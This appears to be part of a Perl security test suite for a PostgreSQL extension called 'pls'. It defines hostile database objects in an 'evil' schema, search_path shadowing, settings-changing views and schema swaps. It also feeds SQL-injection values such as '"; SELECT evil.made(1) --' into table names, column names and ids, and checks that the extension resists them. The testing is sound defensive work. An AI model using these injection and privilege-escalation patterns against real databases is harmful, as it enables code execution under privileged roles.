				CREATE RULE "_RETURN" AS ON SELECT TO app.events DO INSTEAD SELECT 1::bigint AS event_id, 'acme'::text AS org_id, evil.made('1') AS user_id, 'export'::text AS name, pg_catalog.now() AS created_at, NULL::jsonb AS props, NULL::text AS email;
				CREATE FUNCTION evil.instead() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.seen('instead'); RETURN NEW; END $$;
				CREATE TRIGGER instead INSTEAD OF INSERT OR UPDATE OR DELETE ON app.events FOR EACH ROW EXECUTE FUNCTION evil.instead();
				SQL
			change => 'SELECT', remove => 'SELECT', empty => 'SELECT',
			picture => undef,
			alive => q{SELECT evil.made('1')},
			trap => 'SELECT user_id FROM app.events' },
		{ name => 'view to map from',
			before => q{CREATE VIEW evil.v AS SELECT evil.made(p.org_id) AS org_id, evil.word(p.user_id) AS user_id, evil.made(p.email) AS email, p.props, evil.fold(7) AS size, p.created_at FROM evil.people p;
				CREATE VIEW evil.barrier WITH (security_barrier, security_invoker) AS SELECT evil.made(p.org_id) AS org_id, evil.made(p.user_id) AS user_id FROM evil.people p WHERE evil.fine(p.org_id);},
			extra => [
				[ 'super', 'map users of a view', q{SELECT pls.map_users('evil.v', user_id => 'user_id', account => 'org_id', email => 'email', signed_up_at => 'created_at', attributes => 'props')} ],
				[ 'super', 'map accounts of a view', q{SELECT pls.map_accounts('evil.v', account_id => 'org_id', size => 'size', attributes => 'props')} ],
				[ 'super', 'map users of an invoker view', q{SELECT pls.map_users('evil.barrier', user_id => 'user_id', account => 'org_id')} ],
				[ 'super', 'map accounts of an invoker view', q{SELECT pls.map_accounts('evil.barrier', account_id => 'org_id')} ],
				[ 'super', 'watch a view', q{SELECT pls.watch('evil.v', event => 'user_id', at => 'created_at', account => 'org_id')} ],
				[ 'super', 'sweep what was mapped', q{SELECT pls.sweep()} ] ],
			alive => 'SELECT * FROM evil.v' },
		{ name => 'columns of other types, and a swap',
			before => <<~'SQL',
				CREATE DOMAIN evil.org AS text CHECK (evil.fine(VALUE));
				CREATE DOMAIN evil.size AS numeric CHECK (evil.fine(VALUE));
				CREATE DOMAIN evil.document AS json CHECK (evil.fine(VALUE));
				CREATE DOMAIN evil.local AS timestamp CHECK (evil.fine(VALUE));
				CREATE TYPE evil.person AS ENUM ('1', '2', '3');
				CREATE FUNCTION evil.person_text(evil.person) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM evil.seen('cast'); RETURN 'cast'; END $$;
				CREATE CAST (evil.person AS text) WITH FUNCTION evil.person_text(evil.person) AS IMPLICIT;
				CREATE FUNCTION evil.person_json(evil.person) RETURNS json LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM evil.seen('cast to json'); RETURN '{}'; END $$;
				CREATE CAST (evil.person AS json) WITH FUNCTION evil.person_json(evil.person) AS IMPLICIT;
				CREATE TABLE app.other (org evil.org, who evil.person, at evil.local DEFAULT pg_catalog.now(), doc evil.document, size evil.size,
					sizes evil.size[], plan evil.person, made text GENERATED ALWAYS AS (evil.word(org::text)) STORED);
				CREATE INDEX ON app.other (org, (evil.fold(1)));
				CREATE INDEX ON app.other (org) WHERE evil.fine(size);
				CREATE INDEX ON app.other (who);
				ALTER TABLE app.other ADD CHECK (evil.fold(1) > 0);
				CREATE TRIGGER burden BEFORE INSERT OR UPDATE ON app.other FOR EACH ROW EXECUTE FUNCTION evil.fires();
				GRANT SELECT, INSERT, UPDATE, DELETE ON app.other TO app;
				CREATE FUNCTION evil.swap() RETURNS void LANGUAGE plpgsql AS $$
				BEGIN
					DROP TABLE IF EXISTS app.other_old;
					ALTER TABLE app.other RENAME TO other_old;
					CREATE TABLE app.other (LIKE app.other_old INCLUDING ALL);
					GRANT SELECT, INSERT, UPDATE, DELETE ON app.other TO app;
					CREATE INDEX ON app.other ((evil.fold(1)));
					INSERT INTO app.other (org, who, at, doc, size, sizes, plan) SELECT org, who, at, doc, size, sizes, plan FROM app.other_old;
				END $$;
				SQL
			extra => [
				[ 'super', 'signals of columns', q{INSERT INTO pls.signals (motion, signal, category, events, match, measure, property, within, threshold, points)
					VALUES ('trial', 'size', 'depth', '{other}', '$.plan == "1" || $.made == "x"', 'sum', 'size', '14 days', 1, 1), ('trial', 'sizes', 'depth', '{other}', '$.sizes[*] > 1', 'distinct', 'made', '14 days', 1, 1)} ],
				map { my $name = $_->[1]; [ $_->[0], "$name of other types", $_->[2] ] }
				[ 'super', 'watch', q{SELECT pls.watch('app.other', event_name => 'other', at => 'at', time_zone => 'UTC', account => 'org', actor => 'who', properties => 'doc', columns => '{size,sizes,plan,made}')} ],
				[ 'app', 'insert', q{INSERT INTO app.other (org, who, doc, size, sizes, plan) SELECT 'acme', '1', '{"a": 1}', i, ARRAY[i, 2], '1' FROM pg_catalog.generate_series(1, 20) i} ],
				[ 'app', 'update', q{UPDATE app.other SET size = 3 WHERE size > 10; UPDATE app.other SET size = size; DELETE FROM app.other WHERE size = 4} ],
				[ 'super', 'sweep', q{SELECT pls.sweep()} ],
				[ 'super', 'samples', q{UPDATE pls_internal.source_samples SET observed_at = NULL; SELECT pls.sweep(); SELECT * FROM pls.tracking_plan('trial')} ],
				[ 'super', 'people', q{UPDATE pls.alerts SET contact_at = NULL; SELECT pls.sweep(); SELECT * FROM pls.people('trial', 'acme')} ],
				[ 'super', 'refresh', q{SELECT pls.refresh('trial'); SELECT pls.refresh('trial', 'acme'); SELECT pls.refresh('people')} ],
				[ 'evil', 'turn to a swap', 'SELECT evil.swap()' ],
				[ 'super', 'rewatch', q{SELECT pls.rewatch('app.other_old', 'app.other')} ],
				[ 'app', 'insert after rewatch', q{INSERT INTO app.other (org, who, doc, size) VALUES ('acme', '2', '{}', 1)} ],
				[ 'evil', 'turn to another swap', 'SELECT evil.swap()' ],
				[ 'super', 'health of a swap', 'SELECT * FROM pls.health' ],
				[ 'super', 'sweep of a swap', 'SELECT pls.sweep()' ],
				[ 'super', 'watch again', q{SELECT pls.watch('app.other', event_name => 'other', at => 'at', time_zone => 'UTC', account => 'org', actor => 'who', properties => 'doc', columns => '{size,sizes,plan,made}')} ],
				[ 'evil', 'turn to other names', q{ALTER TABLE app.other RENAME size TO "a""b'$1"; ALTER TABLE app.other RENAME org TO size; ALTER TABLE app.other RENAME who TO org} ],
				[ 'app', 'insert under other names', q{INSERT INTO app.other (size, org, doc) VALUES ('acme', '2', '{}')} ],
				[ 'super', 'sweep under other names', 'SELECT pls.sweep()' ],
				[ 'super', 'refresh under other names', q{SELECT pls.refresh('trial')} ],
				[ 'evil', 'turn to other types', q{ALTER TABLE app.other DROP COLUMN made; ALTER TABLE app.other ALTER doc TYPE text USING evil.made(doc::text)} ],
				[ 'super', 'sweep of other types that changed', 'SELECT pls.sweep(); SELECT * FROM pls.health' ],
				[ 'super', 'unwatch', q{SELECT pls.unwatch('app.other')} ] ],
			alive => q{SELECT count(*) FROM app.other} },
		{ name => 'view that changes settings',
			before => <<~'SQL',
				CREATE FUNCTION evil.turns(text) RETURNS text LANGUAGE plpgsql AS $$
				BEGIN
					PERFORM evil.seen('turns');
					PERFORM pg_catalog.set_config('search_path', 'evil, pg_catalog', false);
					PERFORM pg_catalog.set_config('row_security', 'off', false);
					RETURN $1;
				END $$;
				CREATE VIEW evil.v AS SELECT evil.turns(p.org_id) AS org_id, evil.turns(p.user_id) AS user_id FROM evil.people p;
				SQL
			extra => [
				map { [ 'super', "sweep and $_->[0]", "$_->[1]; " . <<~'SQL' ] }
					DO $$ BEGIN
						IF pg_catalog.current_setting('search_path') OPERATOR(pg_catalog.~) 'evil' OR pg_catalog.current_setting('row_security') OPERATOR(pg_catalog.=) 'off' THEN
							RAISE EXCEPTION 'settings were left as evil has set them';
						END IF;
					END $$
					SQL
				[ 'map users', q{SELECT pls.map_users('evil.v', user_id => 'user_id', account => 'org_id')} ],
				[ 'map accounts', q{SELECT pls.map_accounts('evil.v', account_id => 'org_id')} ] ],
			alive => 'SELECT * FROM evil.v' },
		{ name => 'materialized view to map from',
			before => q{CREATE MATERIALIZED VIEW evil.m AS SELECT evil.made(p.org_id) AS org_id, p.user_id, p.props FROM evil.people p;
				CREATE INDEX ON evil.m ((evil.fold(1))); CREATE UNIQUE INDEX ON evil.m (evil.word(user_id)) WHERE evil.fold(1) > 0;},
			extra => [
				[ 'super', 'map users of a materialized view', q{SELECT pls.map_users('evil.m', user_id => 'user_id', account => 'org_id', attributes => 'props')} ],
				[ 'super', 'map accounts of a materialized view', q{SELECT pls.map_accounts('evil.m', account_id => 'org_id', attributes => 'props')} ] ],
			alive => 'SELECT * FROM evil.m' },
	);
}

# Names and values that are pasted into queries, if anything is.
sub vectors_of_names
{
	my (@renamed, @columns);
	my $table = 'app.events';

	foreach my $i (0 .. $#odd_names)
	{
		my $name = quoted($odd_names[$i]);

		push @renamed,
		  [ 'evil', "turn $i", "ALTER TABLE $table RENAME TO $name; CREATE INDEX ON app.$name ((evil.fold(1)))" ],
		  [ 'app', "change $i", "UPDATE app.$name SET props = '{\"n\": $i}' WHERE org_id = 'acme'; INSERT INTO app.$name (org_id, name) VALUES ('acme', 'login')" ],
		  [ 'super', "sweep $i", 'SELECT pls.sweep()' ],
		  [ 'super', "refresh $i", q{SELECT pls.refresh('trial', 'acme')} ];
		$table = "app.$name";
	}
	foreach my $i (0 .. 3)
	{
		my ($event, $account) = @odd_names[ $i, $i + 1 ];
		my ($event_column, $account_column) = map { quoted($_) } ($event, $account);

		s/'/''/g foreach ($event, $account);
		push @columns,
		  [ 'super', "watch by column $i", "SELECT pls.watch('app.odd', event => '$event', at => 'at', account => '$account', actor => '$account', properties => 'props')" ],
		  [ 'app', "insert by column $i", "INSERT INTO app.odd ($event_column, $account_column) VALUES ('export', 'odd$i'); UPDATE app.odd SET $event_column = 'login'; DELETE FROM app.odd WHERE $account_column = 'odd$i'" ],
		  [ 'super', "sweep by column $i", "SELECT pls.sweep(); SELECT pls.refresh('trial'); SELECT pls.map_accounts('app.odd', account_id => '$account', name => '$event'); SELECT pls.unwatch('app.odd')" ];
	}
	my $columns = join ', ', map { quoted($_) . ' text' } @odd_names;

	return (
		{ name => 'table renamed, view in its place',
			after => <<~'SQL',
				ALTER TABLE app.events RENAME TO "x$1";
				CREATE VIEW app."x'{acme}'::text[]" AS SELECT evil.made('acme') AS org_id, '1'::text AS user_id, 'export'::text AS name, now() AS created_at, NULL::jsonb AS props, NULL::text AS email;
				SQL
			events => 'app."x$1"', empty => 'TRUNCATE app."x$1"',
			alive => q{SELECT evil.made('acme')},
			trap => q{SELECT * FROM app."x'{acme}'::text[]"} },
		{ name => 'table renamed, entity as a query',
			before => <<~'SQL',
				CREATE TABLE app."x'{" (z) AS SELECT 1;
				CREATE TABLE app."}'::text[]" (LIKE app.events);
				SQL
			after => <<~'SQL',
				INSERT INTO app.events (org_id, user_id, name) VALUES (' a JOIN evil.made(''pwn'') h ON h IS NOT NULL, app.', '1', 'export');
				INSERT INTO app."}'::text[]" SELECT * FROM app.events;
				ALTER TABLE app.events RENAME TO "x$1";
				UPDATE app."x$1" SET props = '{}' WHERE user_id = '1';
				SQL
			events => 'app."x$1"', empty => 'TRUNCATE app."x$1"',
			picture => "people 1 40.000\npeople 2 40.000\npeople 3 40.000\ntrial acme 40.000\ntrial beta 40.000\ntrial gamma 40.000",
			alive => q{SELECT evil.made('acme')} },
		{ name => 'names of the table',
			extra => \@renamed,
			events_later => $table,
			alive => 'SELECT evil.fold(1)',
			trap => "SELECT count(*) FROM $table" },
		{ name => 'names of columns',
			before => "CREATE TABLE app.odd ($columns, at timestamptz DEFAULT pg_catalog.now(), props jsonb); GRANT INSERT, UPDATE, DELETE, SELECT ON app.odd TO app; CREATE INDEX ON app.odd ((evil.fold(1)));",
			extra => \@columns,
			alive => 'SELECT count(*) FROM app.odd' },
		{ name => 'ids',
			before => 'CREATE INDEX ON app.events ((evil.fold(1)));',
			extra => [
				[ 'app', 'insert of odd ids', <<~'SQL' ],
					INSERT INTO app.events (org_id, user_id, name, email)
					SELECT v, v, 'export', v || '@' || v
					  FROM pg_catalog.unnest(ARRAY['cash$2go', 'a$2@x.example', '$1', '%s %I %L', $v$'||evil.made('x')||'$v$, '"; SELECT evil.made(1) --',
					       '$sql$', 'E''\x27', '{a,b}', '{"a":1}', 'NULL', '(1,2)', E'new\nline', 'it''s', '\', ',', '*', '$$', '<b>@x']) v;
					SQL
				[ 'app', 'update of odd ids', q{UPDATE app.events SET name = 'export' WHERE email IS NOT NULL; UPDATE app.events SET props = '{"$1": "$2"}' WHERE email IS NOT NULL} ],
				[ 'app', 'delete of odd ids', q{DELETE FROM app.events WHERE org_id = 'cash$2go'} ],
				[ 'super', 'sweep of odd ids', q{INSERT INTO pls.exclusions (name, motion, scope, domains, reason) VALUES ('us$1', 'people', 'actor', '{us.example}', 'own'); SELECT pls.sweep()} ],
				[ 'super', 'map and sweep odd ids', q{INSERT INTO pls.users (user_id, account_id, email) VALUES ('a$2@x.example', 'acc$1', 'a$2@x.example'), ('$sql$', $v$'||evil.made('x')||'$v$, NULL); SELECT pls.sweep(); CALL pls.sweep_all()} ],
				[ 'super', 'odd motion', <<~'SQL' ],
					SELECT pls.create_motion('US$2 plan''s "$1" %s', template => 'trial_conversion');
					UPDATE pls.motions SET status = 'live' WHERE motion = 'US$2 plan''s "$1" %s';
					UPDATE pls.signals SET points = points + 1 WHERE motion = 'US$2 plan''s "$1" %s' AND category <> 'outcome';
					SELECT pls.refresh('US$2 plan''s "$1" %s');
					SELECT pls.refresh('US$2 plan''s "$1" %s', 'cash$2go');
					SELECT pls.sweep();
					SQL
				[ 'super', 'refresh of odd ids', q{SELECT pls.refresh('trial', e) FROM pg_catalog.unnest(ARRAY['$1', '%s %I %L', '$sql$', '{a,b}', '\', $v$'||evil.made('x')||'$v$]) e} ],
				[ 'super', 'forget odd ids', q{SELECT count(*) FROM pg_catalog.unnest(ARRAY['$1', '%s %I %L', '$sql$', '{a,b}', '\', $v$'||evil.made('x')||'$v$]) e, pls.forget_user(e); SELECT count(*) FROM pg_catalog.unnest(ARRAY['$1', '$sql$']) e, pls.forget_account(e)} ] ],
			alive => 'SELECT count(*) FROM app.events' },
	);
}

# What the sessions bring along in which pls works.
sub vectors_of_sessions
{
	return (
		{ name => 'operators and functions first in search_path',
			before => shadows('evil'),
			options => '-c search_path=evil,public,pg_catalog',
			alive => q{SET search_path = evil, pg_catalog; SELECT now(), 'a'::pg_catalog.text = 'b'::pg_catalog.text; RESET search_path} },
		{ name => 'operators and functions in public',
			super => 'GRANT CREATE ON SCHEMA public TO evil;',
			before => shadows('public'),
			options => '-c search_path=public,pg_catalog',
			alive => q{SET search_path = public, pg_catalog; SELECT now(), 'a'::pg_catalog.text = 'b'::pg_catalog.text; RESET search_path} },
		{ name => 'temporary objects of the session',
			prelude => "SET ROLE evil; $temporary RESET ROLE;", prelude_app => $temporary,
			alive => "$temporary SELECT * FROM standings; INSERT INTO pls_rebuild (entity_id) VALUES ('x')",
			trap => q{SELECT evil.made('x')} },
		{ name => 'temporary objects come first in search_path',
			prelude => "SET ROLE evil; $temporary RESET ROLE; SET search_path = pg_temp, evil, public, pg_catalog;",
			prelude_app => "$temporary SET search_path = pg_temp, evil, public, pg_catalog;",
			alive => "$temporary SELECT * FROM standings; INSERT INTO pls_rebuild (entity_id) VALUES ('x')",
			trap => q{SELECT evil.made('x')} },
		{ name => 'settings',
			both => burdened('evil', '{T}'),
			options => $settings,
			alive => 'SELECT count(*) FROM app.events' },
		{ name => 'a row trigger on a table with all of it', level => 'row',
			both => burdened('evil', '{T}')
			  . 'ALTER TABLE {T} ADD made text GENERATED ALWAYS AS (evil.word(org_id)) STORED, ADD slow text DEFAULT evil.made(\'m\'); '
			  . q{CREATE STATISTICS evil.{N} ON (evil.word('w') || org_id), (evil.word(name)) FROM {T};},
			alive => 'SELECT count(*) FROM app.events' },
	);
}

sub attack_vectors
{
	my ($host, $port) = @_;

	return (vectors_of_tables(), vectors_of_relations($host, $port),
		vectors_of_names(), vectors_of_sessions());
}

1;
